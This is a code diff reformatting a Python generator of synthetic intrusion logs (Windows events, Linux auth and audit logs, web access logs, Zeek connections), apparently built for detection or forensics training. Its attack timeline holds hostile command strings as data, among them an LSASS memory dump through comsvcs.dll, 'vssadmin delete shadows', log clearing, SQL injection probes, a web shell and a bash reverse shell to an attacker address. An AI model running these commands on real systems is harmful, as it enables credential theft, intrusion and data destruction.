@@ -36,7 +36,13 @@ def at(hour: int, minute: int, second: int = 0) -> datetime:
 
 def windows(moment: datetime, host: str, channel: str, event_id: int, **fields: object) -> Timed:
     """One flat Windows record."""
-    record = {"TimeCreated": stamp(moment), "Channel": channel, "EventID": event_id, "Computer": host, **fields}
+    record = {
+        "TimeCreated": stamp(moment),
+        "Channel": channel,
+        "EventID": event_id,
+        "Computer": host,
+        **fields,
+    }
     return moment, json.dumps(record)
 
 
@@ -60,14 +66,25 @@ def windows_background(draw: random.Random) -> Iterator[Timed]:
             image, command = draw.choice(
                 [
                     (f"{SYSTEM32}svchost.exe", "svchost.exe -k netsvcs -p"),
-                    ("C:\\Program Files\\Office\\WINWORD.EXE", "WINWORD.EXE C:\\Users\\Documents\\to-trinh.docx"),
+                    (
+                        "C:\\Program Files\\Office\\WINWORD.EXE",
+                        "WINWORD.EXE C:\\Users\\Documents\\to-trinh.docx",
+                    ),
                     ("C:\\Program Files\\Browser\\browser.exe", "browser.exe --type=renderer"),
                     (f"{SYSTEM32}taskhostw.exe", "taskhostw.exe"),
                 ]
             )
             yield process(moment, host, user, image, command, f"{SYSTEM32}services.exe")
         elif which < 0.75:
-            yield windows(moment, host, "Security", 4624, TargetUserName=user.split("\\")[1], LogonType=3, IpAddress="10.1.0.5")
+            yield windows(
+                moment,
+                host,
+                "Security",
+                4624,
+                TargetUserName=user.split("\\")[1],
+                LogonType=3,
+                IpAddress="10.1.0.5",
+            )
         else:
             yield windows(
                 moment, host, SYSMON, 13, EventType="SetValue", Image=f"{SYSTEM32}svchost.exe",
@@ -94,13 +111,39 @@ def windows_attack() -> Iterator[Timed]:
         TargetObject="HKU\\S-1-5-21-7\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\CapNhat",
         Details="C:\\Users\\nv.so-y4\\AppData\\Roaming\\capnhat.exe",
     )  # fmt: skip
-    yield process(at(2, 31), host, user, f"{SYSTEM32}rundll32.exe", "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Users\\Public\\l.bin full", shell)
-    for second in range(14):
-        yield windows(at(3, 2, second * 3), server, "Security", 4625, TargetUserName=f"nv.user{second}", IpAddress="10.1.0.44")
-    yield windows(
-        at(3, 10), server, "System", 7045, ServiceName="BTOBTO", ImagePath="%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output"
+    yield process(
+        at(2, 31),
+        host,
+        user,
+        f"{SYSTEM32}rundll32.exe",
+        "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Users\\Public\\l.bin full",
+        shell,
     )
-    yield process(at(3, 12), server, "NT AUTHORITY\\SYSTEM", f"{SYSTEM32}vssadmin.exe", "vssadmin delete shadows /all /quiet", f"{SYSTEM32}cmd.exe")
+    for second in range(14):
+        yield windows(
+            at(3, 2, second * 3),
+            server,
+            "Security",
+            4625,
+            TargetUserName=f"nv.user{second}",
+            IpAddress="10.1.0.44",
+        )
+    yield windows(
+        at(3, 10),
+        server,
+        "System",
+        7045,
+        ServiceName="BTOBTO",
+        ImagePath="%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output",
+    )
+    yield process(
+        at(3, 12),
+        server,
+        "NT AUTHORITY\\SYSTEM",
+        f"{SYSTEM32}vssadmin.exe",
+        "vssadmin delete shadows /all /quiet",
+        f"{SYSTEM32}cmd.exe",
+    )
     yield windows(at(3, 40), server, "Security", 1102, SubjectUserName="nv.so-y4")
 
 
@@ -108,22 +151,36 @@ def syslog(draw: random.Random) -> Iterator[Timed]:
     """A Linux portal server's auth log (written in UTC)."""
     for _ in range(400):
         moment = DAY + timedelta(seconds=draw.uniform(0, 86_000))
-        yield moment, f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 CRON[{draw.randint(900, 9000)}]: (root) CMD (/usr/lib/sysstat/sa1 1 1)"
+        yield (
+            moment,
+            f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 CRON[{draw.randint(900, 9000)}]: (root) CMD (/usr/lib/sysstat/sa1 1 1)",
+        )
     for count in range(40):
         moment = at(1, 30, 0) + timedelta(seconds=count * 9)
-        yield moment, f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 sshd[811]: Failed password for invalid user admin from {ATTACKER} port {40000 + count} ssh2"
+        yield (
+            moment,
+            f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 sshd[811]: Failed password for invalid user admin from {ATTACKER} port {40000 + count} ssh2",
+        )
     moment = at(4, 6)
-    yield moment, f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 sshd[977]: Accepted password for root from {ATTACKER} port 50211 ssh2"
+    yield (
+        moment,
+        f"{moment:%b} {moment.day:2d} {moment:%H:%M:%S} cong-dvc01 sshd[977]: Accepted password for root from {ATTACKER} port 50211 ssh2",
+    )
 
 
 def audit() -> Iterator[Timed]:
     """The portal's audit log: a web shell at work."""
-    for number, (minute, command) in enumerate(((1, "whoami"), (2, "cat /etc/passwd"), (4, "bash -i >& /dev/tcp/203.0.113.66/443 0>&1"))):
+    for number, (minute, command) in enumerate(
+        ((1, "whoami"), (2, "cat /etc/passwd"), (4, "bash -i >& /dev/tcp/203.0.113.66/443 0>&1"))
+    ):
         moment = at(4, minute)
         key = f"audit({moment.timestamp():.3f}:{700 + number})"
         parts = ["sh", "-c", *command.split(" ")]
         arguments = " ".join(f'a{place}="{part}"' for place, part in enumerate(parts))
-        yield moment, f'type=SYSCALL msg={key}: arch=c000003e syscall=59 success=yes exit=0 ppid=80 pid={900 + number} auid=4294967295 uid=33 comm="sh" exe="/usr/bin/dash" key="exec"'
+        yield (
+            moment,
+            f'type=SYSCALL msg={key}: arch=c000003e syscall=59 success=yes exit=0 ppid=80 pid={900 + number} auid=4294967295 uid=33 comm="sh" exe="/usr/bin/dash" key="exec"',
+        )
         yield moment, f"type=EXECVE msg={key}: argc={len(parts)} {arguments}"
         yield moment, f"type=EOE msg={key}: "
 
@@ -132,13 +189,23 @@ def web(draw: random.Random) -> Iterator[Timed]:
     """The portal's access log."""
 
     def line(moment: datetime, address: str, path: str, status: int, agent: str = "Mozilla/5.0") -> Timed:
-        return moment, f'{address} - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" {status} {draw.randint(200, 9000)} "-" "{agent}"'
+        return (
+            moment,
+            f'{address} - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" {status} {draw.randint(200, 9000)} "-" "{agent}"',
+        )
 
     for _ in range(1200):
         moment = DAY + timedelta(seconds=draw.uniform(0, 86_000))
-        yield line(moment, f"198.51.100.{draw.randint(1, 250)}", draw.choice(("/", "/dich-vu", "/tra-cuu?ma=12", "/tin/5")), 200)
+        yield line(
+            moment,
+            f"198.51.100.{draw.randint(1, 250)}",
+            draw.choice(("/", "/dich-vu", "/tra-cuu?ma=12", "/tin/5")),
+            200,
+        )
     for count in range(12):
-        yield line(at(3, 50, count), ATTACKER, f"/tra-cuu?ma={count}%20union%20select%201,2,3", 500, "sqlmap/1.8")
+        yield line(
+            at(3, 50, count), ATTACKER, f"/tra-cuu?ma={count}%20union%20select%201,2,3", 500, "sqlmap/1.8"
+        )
     yield line(at(3, 58), ATTACKER, "/uploads/shell.php?c=whoami", 200)
 
 
@@ -154,9 +221,17 @@ def zeek(draw: random.Random) -> Iterator[Timed]:
 
     for _ in range(900):
         moment = DAY + timedelta(seconds=draw.uniform(0, 86_000))
-        yield connection(moment, f"10.1.0.{draw.randint(10, 90)}", f"198.51.100.{draw.randint(1, 250)}", 443, draw.randint(300, 90_000))
+        yield connection(
+            moment,
+            f"10.1.0.{draw.randint(10, 90)}",
+            f"198.51.100.{draw.randint(1, 250)}",
+            443,
+            draw.randint(300, 90_000),
+        )
     for count in range(180):
-        yield connection(at(2, 15) + timedelta(seconds=count * 60 + draw.uniform(-3, 3)), "10.1.0.44", ATTACKER, 443, 640)
+        yield connection(
+            at(2, 15) + timedelta(seconds=count * 60 + draw.uniform(-3, 3)), "10.1.0.44", ATTACKER, 443, 640
+        )
 
 
 def main() -> None:
